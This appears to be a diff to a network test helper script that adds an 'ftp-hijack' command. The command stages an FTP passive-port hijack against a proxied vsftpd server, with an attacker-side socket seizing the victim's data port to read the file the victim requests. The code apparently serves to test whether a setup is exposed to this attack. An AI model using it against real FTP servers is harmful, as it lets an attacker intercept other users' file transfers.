@@ -27,6 +27,9 @@ Run with Debian's python3 (/usr/bin/python3); standard library only.
                                 acknowledged, then reset the connection
   drain    --src A --to H:P --wait-file F
                                 connect, wait for F, read all: bytes=N end=W
+  ftp-hijack --to H:P --victim-src A --attacker-src B --file PATH
+                                attacker takes the victim's PASV port first;
+                                prints attacker=<bytes> victim=<RETR reply>
   dns      --listen A --log F --ready F --release F
                                 UDP DNS server that holds every query until
                                 the file F exists, then answers NXDOMAIN
@@ -483,6 +486,53 @@ def cmd_drain(a):
     return 0
 
 
+# ---------------------------------------------------------------- ftp
+
+def cmd_ftp_hijack(a):
+    """The FTP data-port hijack of a proxied vsftpd (legacy-daemons.md):
+    the victim asks for a passive port; the attacker connects to it first;
+    the victim then asks for a file.  Prints attacker=<bytes it got>
+    victim=<reply to RETR>."""
+    import ftplib
+    host, port = split_hostport(a.to)
+    f = ftplib.FTP(timeout=a.timeout)
+    f.connect(host, port, source_address=(a.victim_src, 0))
+    f.login()
+    f.voidcmd("TYPE I")
+    resp = f.sendcmd("PASV")
+    m = re.search(r"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", resp)
+    dport = int(m.group(5)) * 256 + int(m.group(6))
+    att = socket.socket()
+    att.settimeout(a.timeout)
+    att.bind((a.attacker_src, 0))
+    got = b""
+    try:
+        att.connect((host, dport))
+        # The victim's RETR goes out while the attacker holds the port.
+        f.putcmd("RETR " + a.file)
+        reply = f.getresp()
+        try:
+            while True:
+                d = att.recv(65536)
+                if not d:
+                    break
+                got += d
+        except OSError:
+            pass
+    except ftplib.Error as e:
+        reply = str(e)
+    except OSError as e:
+        reply = "attacker connect: %s" % e
+    finally:
+        att.close()
+    try:
+        f.close()
+    except OSError:
+        pass
+    print("attacker=%d victim=%s" % (len(got), reply.split()[0] if reply else "-"))
+    return 0
+
+
 # ---------------------------------------------------------------- dns
 
 def dns_qname(pkt):
@@ -681,6 +731,13 @@ def main():
     r.add_argument("--wait-file", required=True)
     r.add_argument("--ready")
 
+    h = sub.add_parser("ftp-hijack")
+    h.add_argument("--to", required=True)
+    h.add_argument("--victim-src", required=True)
+    h.add_argument("--attacker-src", required=True)
+    h.add_argument("--file", required=True)
+    h.add_argument("--timeout", type=float, default=30)
+
     d = sub.add_parser("dns")
     d.add_argument("--listen", required=True)
     d.add_argument("--log", required=True)
@@ -701,7 +758,7 @@ def main():
         "freeport": cmd_freeport, "echo": cmd_echo, "client": cmd_client,
         "banner": cmd_banner, "load": cmd_load, "big-server": cmd_big_server,
         "big-client": cmd_big_client, "dns": cmd_dns, "logcheck": cmd_logcheck,
-        "flood": cmd_flood, "drain": cmd_drain,
+        "flood": cmd_flood, "drain": cmd_drain, "ftp-hijack": cmd_ftp_hijack,
     }[a.cmd]
     return f(a) or 0
 
